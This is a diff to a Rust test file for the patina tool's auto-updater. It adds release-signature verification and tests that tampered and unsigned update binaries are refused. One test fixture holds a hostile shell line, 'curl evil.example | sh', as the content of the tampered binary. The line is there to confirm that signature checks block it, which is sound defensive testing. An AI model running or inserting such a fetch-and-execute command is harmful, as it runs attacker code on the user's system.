@@ -6,7 +6,9 @@
 //! - Download and checksum verification
 //! - Platform detection
 
-use patina::update::{ReleaseChannel, UpdateChecker, UpdateInstaller};
+use base64::Engine;
+use patina::update::{PlatformRelease, ReleaseChannel, UpdateChecker, UpdateInstaller};
+use ring::signature::{Ed25519KeyPair, KeyPair};
 use sha2::{Digest, Sha256};
 use tempfile::TempDir;
 use wiremock::matchers::{method, path};
@@ -42,6 +44,30 @@ fn manifest_json(version: &str, channel: &str) -> String {
     .to_string()
 }
 
+/// Generate a throwaway release signing key.
+fn release_key() -> Ed25519KeyPair {
+    let pkcs8 = Ed25519KeyPair::generate_pkcs8(&ring::rand::SystemRandom::new())
+        .expect("Failed to generate key");
+    Ed25519KeyPair::from_pkcs8(pkcs8.as_ref()).expect("Failed to parse key")
+}
+
+/// Serve `binary` and its detached signature at `/stable/rct-darwin-aarch64`.
+async fn mount_release(server: &MockServer, binary: &[u8], signature: &[u8]) {
+    Mock::given(method("GET"))
+        .and(path("/stable/rct-darwin-aarch64"))
+        .respond_with(ResponseTemplate::new(200).set_body_bytes(binary.to_vec()))
+        .mount(server)
+        .await;
+    Mock::given(method("GET"))
+        .and(path("/stable/rct-darwin-aarch64.sig"))
+        .respond_with(
+            ResponseTemplate::new(200)
+                .set_body_string(base64::engine::general_purpose::STANDARD.encode(signature)),
+        )
+        .mount(server)
+        .await;
+}
+
 // =============================================================================
 // 8.3.1 Update check tests
 // =============================================================================
@@ -239,12 +265,13 @@ fn test_platform_key_detection() {
 // 8.3.1 Signature verification tests
 // =============================================================================
 
-/// Test that download verifies SHA256 checksum.
+/// Test that download verifies the SHA256 checksum and release signature.
 #[tokio::test]
 async fn test_auto_update_verify_signature() {
     let mock_server = MockServer::start().await;
     let temp_dir = TempDir::new().expect("Failed to create temp dir");
     let install_path = temp_dir.path().join("rct");
+    let key = release_key();
 
     // Create test binary content
     let binary_content = b"#!/bin/sh\necho 'Patina v2.0.0'";
@@ -254,25 +281,28 @@ async fn test_auto_update_verify_signature() {
     hasher.update(binary_content);
     let expected_hash = hex::encode(hasher.finalize());
 
-    // Mock the download endpoint
-    Mock::given(method("GET"))
-        .and(path("/stable/rct-darwin-aarch64"))
-        .respond_with(ResponseTemplate::new(200).set_body_bytes(binary_content.to_vec()))
-        .mount(&mock_server)
-        .await;
+    mount_release(
+        &mock_server,
+        binary_content,
+        key.sign(binary_content).as_ref(),
+    )
+    .await;
 
-    let release = patina::update::PlatformRelease {
+    let release = PlatformRelease {
         url: format!("{}/stable/rct-darwin-aarch64", mock_server.uri()),
         sha256: expected_hash,
         size: binary_content.len() as u64,
+        signature_url: None,
     };
 
-    let installer = UpdateInstaller::new(install_path.clone());
+    let installer =
+        UpdateInstaller::new(install_path.clone()).with_public_key(key.public_key().as_ref());
     let result = installer.download_and_install(&release).await;
 
     assert!(
         result.is_ok(),
-        "Download with valid checksum should succeed"
+        "Download with valid checksum and signature should succeed: {:?}",
+        result
     );
     assert!(install_path.exists(), "Binary should be installed");
 
@@ -288,24 +318,28 @@ async fn test_auto_update_checksum_mismatch() {
     let temp_dir = TempDir::new().expect("Failed to create temp dir");
     let install_path = temp_dir.path().join("rct");
 
+    let key = release_key();
+
     // Create test binary content
     let binary_content = b"#!/bin/sh\necho 'Patina v2.0.0'";
 
-    // Mock the download endpoint
-    Mock::given(method("GET"))
-        .and(path("/stable/rct-darwin-aarch64"))
-        .respond_with(ResponseTemplate::new(200).set_body_bytes(binary_content.to_vec()))
-        .mount(&mock_server)
-        .await;
+    mount_release(
+        &mock_server,
+        binary_content,
+        key.sign(binary_content).as_ref(),
+    )
+    .await;
 
     // Use wrong checksum
-    let release = patina::update::PlatformRelease {
+    let release = PlatformRelease {
         url: format!("{}/stable/rct-darwin-aarch64", mock_server.uri()),
         sha256: "wrong_checksum_that_should_not_match".to_string(),
         size: binary_content.len() as u64,
+        signature_url: None,
     };
 
-    let installer = UpdateInstaller::new(install_path.clone());
+    let installer =
+        UpdateInstaller::new(install_path.clone()).with_public_key(key.public_key().as_ref());
     let result = installer.download_and_install(&release).await;
 
     assert!(
@@ -337,18 +371,100 @@ async fn test_auto_update_download_server_error() {
         .mount(&mock_server)
         .await;
 
-    let release = patina::update::PlatformRelease {
+    let release = PlatformRelease {
         url: format!("{}/stable/rct-darwin-aarch64", mock_server.uri()),
         sha256: "abc123".to_string(),
         size: 1024,
+        signature_url: None,
     };
 
-    let installer = UpdateInstaller::new(install_path.clone());
+    let key = release_key();
+    let installer =
+        UpdateInstaller::new(install_path.clone()).with_public_key(key.public_key().as_ref());
     let result = installer.download_and_install(&release).await;
 
     assert!(result.is_err(), "Download should fail on server error");
 }
 
+/// Test that an artifact tampered after signing is not installed, even when
+/// its checksum matches the manifest.
+#[tokio::test]
+async fn test_auto_update_rejects_tampered_artifact() {
+    let mock_server = MockServer::start().await;
+    let temp_dir = TempDir::new().expect("Failed to create temp dir");
+    let install_path = temp_dir.path().join("rct");
+    let key = release_key();
+
+    let signed = b"#!/bin/sh\necho 'Patina v2.0.0'";
+    let tampered = b"#!/bin/sh\ncurl evil.example | sh";
+    mount_release(&mock_server, tampered, key.sign(signed).as_ref()).await;
+
+    // A compromised manifest can publish the checksum of the tampered file
+    let release = PlatformRelease {
+        url: format!("{}/stable/rct-darwin-aarch64", mock_server.uri()),
+        sha256: hex::encode(Sha256::digest(tampered)),
+        size: tampered.len() as u64,
+        signature_url: None,
+    };
+
+    let installer =
+        UpdateInstaller::new(install_path.clone()).with_public_key(key.public_key().as_ref());
+    let err = installer
+        .download_and_install(&release)
+        .await
+        .expect_err("Tampered artifact should be rejected");
+
+    assert!(
+        err.to_string().contains("Signature mismatch"),
+        "Error should mention signature mismatch: {}",
+        err
+    );
+    assert!(
+        !install_path.exists(),
+        "Tampered binary should not be installed"
+    );
+}
+
+/// Test that a release without a signature is not installed.
+#[tokio::test]
+async fn test_auto_update_rejects_unsigned_artifact() {
+    let mock_server = MockServer::start().await;
+    let temp_dir = TempDir::new().expect("Failed to create temp dir");
+    let install_path = temp_dir.path().join("rct");
+    let binary_content = b"#!/bin/sh\necho 'Patina v2.0.0'";
+
+    Mock::given(method("GET"))
+        .and(path("/stable/rct-darwin-aarch64"))
+        .respond_with(ResponseTemplate::new(200).set_body_bytes(binary_content.to_vec()))
+        .mount(&mock_server)
+        .await;
+
+    let release = PlatformRelease {
+        url: format!("{}/stable/rct-darwin-aarch64", mock_server.uri()),
+        sha256: hex::encode(Sha256::digest(binary_content)),
+        size: binary_content.len() as u64,
+        signature_url: None,
+    };
+
+    let key = release_key();
+    let installer =
+        UpdateInstaller::new(install_path.clone()).with_public_key(key.public_key().as_ref());
+    let err = installer
+        .download_and_install(&release)
+        .await
+        .expect_err("Unsigned artifact should be rejected");
+
+    assert!(
+        err.to_string().contains("signature unavailable"),
+        "Error should mention the missing signature: {}",
+        err
+    );
+    assert!(
+        !install_path.exists(),
+        "Unsigned binary should not be installed"
+    );
+}
+
 // =============================================================================
 // Release channel tests
 // =============================================================================